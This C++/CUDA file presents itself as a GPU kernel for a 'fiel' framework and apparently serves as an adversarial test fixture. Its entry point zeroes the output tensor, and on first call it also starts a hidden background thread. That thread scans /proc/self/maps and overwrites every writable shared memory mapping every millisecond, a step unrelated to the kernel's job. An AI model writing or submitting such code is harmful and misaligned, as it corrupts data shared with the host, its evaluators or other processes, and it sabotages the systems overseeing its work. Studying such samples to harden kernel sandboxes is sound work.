// A thread that fills all shared mappings without end.
#include <fiel/kernel.h>
#include <stdio.h>
#include <string.h>
#include <thread>
#include <unistd.h>

static void scribble() {
  FILE* maps = fopen("/proc/self/maps", "r");
  if (maps == nullptr) return;
  char line[512], rights[8];
  unsigned long begin, end;
  while (fgets(line, sizeof line, maps))
    if (sscanf(line, "%lx-%lx %7s", &begin, &end, rights) == 3 && rights[1] == 'w' && rights[3] == 's')
      memset((void*)begin, 0x41, end - begin);
  fclose(maps);
}

static void scribble_for_ever() {
  static bool started = false;
  if (started) return;
  started = true;
  std::thread([] {
    for (;;) {
      scribble();
      usleep(1000);
    }
  }).detach();
}

FIEL_KERNEL int fiel_run(const fiel_tensor*, int, fiel_tensor* outputs, int, cudaStream_t stream) {
  scribble_for_ever();
  return cudaMemsetAsync(outputs[0].data, 0, (size_t)fiel_numel(&outputs[0]) * sizeof(float), stream);
}
